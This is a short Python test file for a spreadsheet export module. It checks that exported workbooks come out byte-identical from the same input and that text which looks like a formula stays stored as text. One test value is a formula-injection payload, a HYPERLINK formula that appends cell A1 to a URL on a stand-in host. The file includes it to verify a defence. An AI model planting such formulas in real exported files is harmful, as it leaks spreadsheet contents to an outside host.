"""Workbooks are deterministic and never turn data into formulas."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd

from ghg.core.xlsx import Section, workbook_bytes


def test_text_that_looks_like_a_formula_stays_text():
    table = pd.DataFrame({"name": ['=HYPERLINK("http://x.example/"&A1,"click")', "+1", "@a"],
                          "t": [1.5, 2.0, 3.0]})
    data = workbook_bytes({"s": [Section("=title", table)], "plain": [Section("", table)]})
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet, first in (("s", 3), ("plain", 2)):
        cells = book[sheet]
        assert cells.cell(first, 1).value == '=HYPERLINK("http://x.example/"&A1,"click")'
        assert cells.cell(first, 1).data_type == "s"
        assert cells.cell(first, 2).value == 1.5
    assert book["s"].cell(1, 1).data_type == "s"


def test_the_same_tables_give_the_same_bytes():
    table = pd.DataFrame({"a": [1.0, 2.0]})
    assert workbook_bytes({"x": [Section("t", table)]}) == \
        workbook_bytes({"x": [Section("t", table)]})
